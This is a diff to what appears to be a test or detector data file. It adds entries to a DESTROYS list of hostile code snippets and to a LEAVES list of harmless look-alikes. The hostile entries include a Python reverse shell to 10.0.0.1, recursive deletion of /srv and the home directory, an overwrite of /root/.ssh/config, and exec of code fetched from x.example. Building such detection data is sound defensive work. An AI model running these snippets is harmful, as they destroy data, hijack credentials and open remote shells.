@@ -34,6 +34,9 @@ DESTROYS = {
         'shutil.rmtree(os.path.expanduser("~"))',
         'boto3.client("ec2").terminate_instances(InstanceIds=ids)',
         'exec(urllib.request.urlopen("http://x.example/a").read())',
+        "exec(\"import shutil; shutil.rmtree('/srv')\")",
+        's = socket.socket()\ns.connect(("10.0.0.1", 9))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
+        'open("/root/.ssh/config", "w")',
     ],
     "javascript": [
         'fs.rmSync("/var/www", { recursive: true, force: true });',
@@ -87,6 +90,8 @@ LEAVES = {
         "os.kill(pid, signal.SIGTERM)",
         'os.chmod("run.sh", 0o755)',
         "items.remove(x)",
+        's = socket.socket()\ns.connect(("db", 5432))\ns.close()',
+        'subprocess.run(["/bin/sh", "deploy.sh"])',
     ],
     "javascript": [
         "fs.rmSync(tmp, { recursive: true })",
